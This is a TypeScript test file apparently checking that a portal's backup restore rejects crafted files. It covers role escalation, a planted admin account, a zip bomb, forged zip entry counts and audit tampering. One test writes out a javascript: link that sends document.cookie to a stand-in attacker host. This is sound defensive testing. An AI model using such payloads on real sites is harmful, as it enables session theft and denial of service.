import { Readable } from 'node:stream';
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import { PDFDocument } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as yazl from 'yazl';
import { s3 } from '../../functions/commons/s3';
import { formatFileSize } from '../../shared/format/sizes';
import { backupMessages } from '../../shared/messages/backup';
import { settingsMessages } from '../../shared/messages/settings';
import type { BackupDownload, BackupJob, RestoreBody, RestoreJob } from '../../shared/schemas/backup';
import { startTestPortal, type TestPortal } from './support/portal';
import { readTable } from './support/tables';
import { createUser } from './support/users';

/**
 * A restore trusts nothing the file says (issue 38, items 10, 11 and 13): a crafted backup cannot
 * make admins, store a javascript: link, keep a demoted user's session, overwrite a signed PDF or
 * take the worker down; a file that is not from this installation needs an explicit confirmation.
 */

let portal: TestPortal;
let admin: string;
let adminId: number;
const m = backupMessages.backup;

type BackupFile = { data: Record<string, Record<string, unknown>[]>; [key: string]: unknown };
type Consent = Pick<RestoreBody, 'acceptedRoleChanges' | 'acceptForeignFile'>;

beforeAll(async () => {
  portal = await startTestPortal();
  admin = await portal.logIn();
  const me = await portal.call<{ id: number } | { user: { id: number } }>('GET', '/api/auth/me', {
    token: admin,
  });
  adminId = 'user' in me.body ? me.body.user.id : me.body.id;
});
afterAll(() => portal.stop());

async function upload(bytes: Buffer, fileName: string, contentType: string, purpose = 'restore') {
  const presigned = await portal.call<{ uploadId: string; url: string; headers: Record<string, string> }>(
    'POST',
    '/api/uploads',
    { token: admin, body: { purpose, fileName, contentType, size: bytes.byteLength } },
  );
  if (presigned.status !== 201) throw new Error(`presign: ${presigned.status} ${presigned.text}`);
  await fetch(presigned.body.url, {
    method: 'PUT',
    headers: presigned.body.headers,
    body: new Uint8Array(bytes),
  });
  const confirmed = await portal.call('POST', `/api/uploads/${presigned.body.uploadId}/confirm`, {
    token: admin,
  });
  if (confirmed.status !== 200) throw new Error(`confirm: ${confirmed.status} ${confirmed.text}`);
  return presigned.body.uploadId;
}

async function backup(withFiles = false) {
  const started = await portal.call<{ jobId: string }>('POST', '/api/backup', {
    token: admin,
    body: { withFiles },
  });
  expect(started.status).toBe(202);
  await portal.workDone();
  const job = await portal.call<BackupJob>('GET', `/api/backup/${started.body.jobId}`, { token: admin });
  expect(job.body.status).toBe('done');
  const link = await portal.call<BackupDownload>('POST', `/api/backup/${started.body.jobId}/download`, {
    token: admin,
  });
  expect(link.status).toBe(200);
  return { jobId: started.body.jobId, bytes: Buffer.from(await (await fetch(link.body.url)).arrayBuffer()) };
}

const edited = (bytes: Buffer, edit: (file: BackupFile) => void) => {
  const file = JSON.parse(bytes.toString('utf8')) as BackupFile;
  edit(file);
  return Buffer.from(JSON.stringify(file));
};
const uploadJson = (bytes: Buffer) => upload(bytes, 'backup.json', 'application/json');

async function restoreJob(mode: 'validate' | 'restore', uploadId: string, consent: Consent = {}) {
  const path = mode === 'validate' ? '/api/restore/validate' : '/api/restore';
  const started = await portal.call<{ jobId: string }>('POST', path, {
    token: admin,
    body: { uploadId, ...consent },
  });
  expect(started.status).toBe(202);
  await portal.workDone();
  const job = await portal.call<RestoreJob>('GET', `/api/restore/${started.body.jobId}`, { token: admin });
  expect(job.status).toBe(200);
  return job.body;
}

const profileOf = async (id: number) =>
  (await readTable(portal.resourcePrefix, 'users')).find(
    (item) => item.pk === `USER#${id}` && item.sk === 'PROFILE',
  );

describe('a restore that trusts nothing the file says', () => {
  it('lists a volunteer the file makes admin by name, and leaves them a volunteer unless the admin ticks it', async () => {
    const volunteer = await createUser(portal, admin, { role: 'vrijwilliger' });
    const { bytes } = await backup();
    const promoted = edited(bytes, (file) => {
      const record = file.data.users?.find((user) => user.id === volunteer.id);
      if (record) record.role = 'admin';
    });
    const uploadId = await uploadJson(promoted);

    const dryRun = await restoreJob('validate', uploadId);
    const refused = await restoreJob('restore', uploadId, { acceptForeignFile: true });
    const roleAfterRefusal = (await profileOf(volunteer.id))?.role;
    const accepted = await restoreJob('restore', uploadId, {
      acceptForeignFile: true,
      acceptedRoleChanges: [{ userId: volunteer.id, role: 'admin', type: null }],
    });

    const change = {
      userId: volunteer.id,
      username: volunteer.username,
      before: { role: 'vrijwilliger', type: null },
      after: { role: 'admin', type: null },
    };
    expect(dryRun.roleChanges).toEqual([
      expect.objectContaining({
        ...change,
        name: `${volunteer.firstName} ${volunteer.lastName}`,
        accepted: false,
      }),
    ]);
    expect(dryRun.roleChanges[0]?.message).toBe(m.roleChange(change.before, change.after));
    expect(refused).toMatchObject({
      status: 'done',
      roleChanges: [expect.objectContaining({ accepted: false })],
    });
    expect(refused.skippedUsers.map((user) => user.userId)).toEqual([volunteer.id]);
    expect(roleAfterRefusal).toBe('vrijwilliger');
    expect(accepted.roleChanges).toEqual([expect.objectContaining({ ...change, accepted: true })]);
    expect((await profileOf(volunteer.id))?.role).toBe('admin');
  });

  it('lists a new user with a staff role and an outside address, and does not create them without the tick', async () => {
    const { bytes } = await backup();
    let newId = 0;
    const crafted = edited(bytes, (file) => {
      const users = file.data.users ?? [];
      newId = Math.max(...users.map((user) => Number(user.id))) + 1000;
      const template = users.find((user) => user.id === adminId) ?? {};
      users.push({
        ...template,
        pk: `USER#${newId}`,
        id: newId,
        username: 'overname',
        email: 'overname@aanvaller.example',
        firstName: 'Onbekende',
        lastName: 'Beheerder',
        role: 'admin',
        status: 'active',
      });
    });
    const uploadId = await uploadJson(crafted);

    const dryRun = await restoreJob('validate', uploadId);
    const restored = await restoreJob('restore', uploadId, { acceptForeignFile: true });
    const created = await profileOf(newId);

    expect(dryRun.roleChanges).toEqual([
      expect.objectContaining({
        userId: newId,
        username: 'overname',
        name: 'Onbekende Beheerder',
        before: null,
        after: { role: 'admin', type: null },
        message: m.roleChange(null, { role: 'admin', type: null }),
      }),
    ]);
    expect(restored.status).toBe('done');
    expect(restored.roleChanges).toEqual([expect.objectContaining({ userId: newId, accepted: false })]);
    expect(created).toBeUndefined();
  });

  it('names a javascript: external link as a problem of the dry run and restores nothing from the file', async () => {
    const link = await portal.call<{ id: number }>('POST', '/api/external-links', {
      token: admin,
      body: { title: 'Stad Gent', url: 'https://stad.gent' },
    });
    const { bytes } = await backup();
    const crafted = edited(bytes, (file) => {
      const record = file.data.externalLinks?.find((each) => each.id === link.body.id);
      if (record) record.url = 'javascript:fetch("//aanvaller.example/?c="+document.cookie)';
    });
    const uploadId = await uploadJson(crafted);

    const dryRun = await restoreJob('validate', uploadId);
    const restored = await restoreJob('restore', uploadId, { acceptForeignFile: true });
    const links = await portal.call<{ id: number; url: string }[]>('GET', '/api/external-links', {
      token: admin,
    });

    expect(dryRun.problems).toEqual([
      {
        entity: 'externalLinks',
        id: String(link.body.id),
        message: m.recordInvalid(`url: ${settingsMessages.links.invalidUrl}`),
      },
    ]);
    expect(restored).toMatchObject({ status: 'failed', error: m.restoreHasProblems });
    expect(JSON.stringify(links.body)).not.toContain('javascript:');
  });

  it('ends the sessions of a coordinator the restore demotes', async () => {
    const user = await createUser(portal, admin, { role: 'vrijwilliger' });
    const { bytes } = await backup();
    const promoted = await portal.call('PUT', `/api/users/${user.id}`, {
      token: admin,
      body: {
        username: user.username,
        email: user.email,
        firstName: user.firstName,
        lastName: user.lastName,
        role: 'coordinator',
      },
    });
    expect(promoted.status).toBe(200);
    const coordinator = await portal.logIn(String(user.username), user.password);
    const before = await portal.call('GET', '/api/auth/me', { token: coordinator });
    const uploadId = await uploadJson(bytes);

    const restored = await restoreJob('restore', uploadId, {
      acceptedRoleChanges: [{ userId: user.id, role: 'vrijwilliger', type: null }],
    });
    const after = await portal.call('GET', '/api/auth/me', { token: coordinator });
    const users = await portal.call('GET', '/api/users', { token: coordinator });

    expect(before.status).toBe(200);
    expect(restored).toMatchObject({ status: 'done', fromThisInstallation: true });
    expect((await profileOf(user.id))?.role).toBe('vrijwilliger');
    expect(after.status).toBe(401);
    expect(users.status).toBe(401);
  });

  it('shows an edited file as not from this installation and restores it only with the explicit confirmation', async () => {
    const family = await portal.call<{ id: number }>('POST', '/api/families', {
      token: admin,
      body: { parentName: 'Gezin Origineel' },
    });
    const { bytes } = await backup();
    const changed = edited(bytes, (file) => {
      const record = file.data.families?.find((each) => each.id === family.body.id);
      if (record) record.parentName = 'Gezin Gewijzigd';
    });
    const intactId = await uploadJson(bytes);
    const changedId = await uploadJson(changed);
    const parentName = async () =>
      (await portal.call<{ parentName: string }>('GET', `/api/families/${family.body.id}`, { token: admin }))
        .body.parentName;

    const intact = await restoreJob('validate', intactId);
    const dryRun = await restoreJob('validate', changedId);
    const refused = await restoreJob('restore', changedId);
    const nameAfterRefusal = await parentName();
    const confirmed = await restoreJob('restore', changedId, { acceptForeignFile: true });

    expect(intact.fromThisInstallation).toBe(true);
    expect(dryRun).toMatchObject({ status: 'done', fromThisInstallation: false, problemCount: 0 });
    expect(refused).toMatchObject({
      status: 'failed',
      error: m.foreignNotConfirmed,
      fromThisInstallation: false,
    });
    expect(nameAfterRefusal).toBe('Gezin Origineel');
    expect(confirmed.status).toBe('done');
    expect(await parentName()).toBe('Gezin Gewijzigd');
  });

  it('never overwrites a signed PDF stored here with the version in the zip', async () => {
    const pdf = await PDFDocument.create();
    pdf.addPage([595, 842]).drawText('Overeenkomst', { x: 60, y: 780, size: 20 });
    const signing = await upload(
      Buffer.from(await pdf.save()),
      'overeenkomst.pdf',
      'application/pdf',
      'signing',
    );
    const signed = await portal.call('POST', '/api/documents/upload-and-sign', {
      token: admin,
      body: {
        uploadId: signing,
        title: 'Overeenkomst',
        signaturePosition: { page: 1, x: 300, y: 400, width: 160, height: 60 },
      },
    });
    expect(signed.status).toBe(201);
    const { bytes } = await backup(true);
    const bucket = `${portal.resourcePrefix}signed`;
    const listed = await s3.send(new ListObjectsV2Command({ Bucket: bucket }));
    const key = String(listed.Contents?.find((object) => !object.Key?.startsWith('restore/'))?.Key);
    const storedHere = Buffer.from('%PDF-1.7 de ondertekende versie van deze installatie');
    await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: storedHere }));
    const uploadId = await upload(bytes, 'backup.zip', 'application/zip');

    const restored = await restoreJob('restore', uploadId);
    const object = await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));

    expect(restored).toMatchObject({ status: 'done', fromThisInstallation: true, signedKept: 1 });
    expect(Buffer.from(await (object.Body?.transformToByteArray() ?? new Uint8Array()))).toEqual(storedHere);
  });

  it('refuses a small zip bomb with a Dutch message, and a zip with too many entries', async () => {
    const zipOf = async (fill: (zip: yazl.ZipFile) => void) => {
      const zip = new yazl.ZipFile();
      fill(zip);
      zip.end();
      const chunks: Buffer[] = [];
      for await (const chunk of zip.outputStream as AsyncIterable<Buffer>) chunks.push(chunk);
      return Buffer.concat(chunks);
    };
    // 160 MB of spaces inside a JSON object: a few hundred kilobytes once deflated.
    const spaces = Buffer.alloc(1024 * 1024, 0x20);
    const bomb = await zipOf((zip) =>
      zip.addReadStream(
        Readable.from(
          (function* () {
            yield Buffer.from('{');
            for (let index = 0; index < 160; index += 1) yield spaces;
            yield Buffer.from('}');
          })(),
        ),
        'backup.json',
      ),
    );
    // A zip whose directory counts 60,000 entries (yazl takes minutes to write that many, so the
    // count in the end-of-directory record of a small zip says so): refused before any is read.
    const crowded = await zipOf((zip) => zip.addBuffer(Buffer.from('{}'), 'backup.json'));
    const endOfDirectory = crowded.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    crowded.writeUInt16LE(60_000, endOfDirectory + 8);
    crowded.writeUInt16LE(60_000, endOfDirectory + 10);
    const bombId = await upload(bomb, 'bom.zip', 'application/zip');
    const crowdedId = await upload(crowded, 'vol.zip', 'application/zip');

    const refusedBomb = await restoreJob('validate', bombId);
    const refusedCrowd = await restoreJob('validate', crowdedId);
    const health = await portal.call('GET', '/api/auth/me', { token: admin });

    expect(bomb.byteLength).toBeLessThan(1024 * 1024);
    expect(refusedBomb).toMatchObject({
      status: 'failed',
      error: m.fileTooLarge(formatFileSize(128 * 1024 * 1024)),
    });
    expect(refusedCrowd).toMatchObject({ status: 'failed', error: m.tooManyEntries(50_000) });
    expect(health.status).toBe(200);
  });

  it('marks a restored IBAN that differs from the stored one as changed by the admin who restored', async () => {
    const user = await createUser(portal, admin, { bankAccount: 'BE68539007547034' });
    const { bytes } = await backup();
    const changed = await portal.call('PUT', `/api/users/${user.id}`, {
      token: admin,
      body: {
        username: user.username,
        email: user.email,
        firstName: user.firstName,
        lastName: user.lastName,
        bankAccount: 'BE71096123456769',
      },
    });
    expect(changed.status).toBe(200);
    const uploadId = await uploadJson(bytes);
    const before = await profileOf(user.id);

    const restored = await restoreJob('restore', uploadId);
    const after = await profileOf(user.id);

    const changesOf = (profile: typeof before) =>
      (profile?.ibanChanges ?? []) as { byId: number; at: string }[];
    expect(before).toMatchObject({ bankAccount: 'BE71096123456769' });
    expect(changesOf(before).at(-1)?.byId).toBe(adminId);
    expect(restored.status).toBe('done');
    expect(after).toMatchObject({ bankAccount: 'BE68539007547034' });
    expect(changesOf(after)).toHaveLength(changesOf(before).length + 1);
    expect(changesOf(after).at(-1)?.byId).toBe(adminId);
    expect(Date.parse(String(changesOf(after).at(-1)?.at))).toBeGreaterThan(
      Date.parse(String(changesOf(before).at(-1)?.at)),
    );
  });
});

describe('the audit trail of backups', () => {
  it('records each backup download and keeps the entry two years', async () => {
    const { jobId } = await backup();

    const entries = (await readTable(portal.resourcePrefix, 'audit')).filter(
      (entry) => entry.action === 'backup-downloaded' && JSON.stringify(entry.changes).includes(jobId),
    );

    expect(entries).toEqual([expect.objectContaining({ actorId: adminId, targetType: 'backup' })]);
    const entry = entries[0] as { at: string; ttl: number };
    const days = (entry.ttl * 1000 - Date.parse(entry.at)) / 86_400_000;
    expect(Math.round(days)).toBe(731);
  });

  it('refuses a file that changes an audit entry stored here', async () => {
    const { bytes } = await backup();
    const crafted = edited(bytes, (file) => {
      const entry = file.data.audit?.[0];
      if (entry) entry.actorName = 'iemand anders';
    });
    const uploadId = await uploadJson(crafted);

    const dryRun = await restoreJob('validate', uploadId);

    expect(dryRun.problems).toEqual([
      expect.objectContaining({ entity: 'audit', message: m.auditEntryChanged }),
    ]);
  });
});
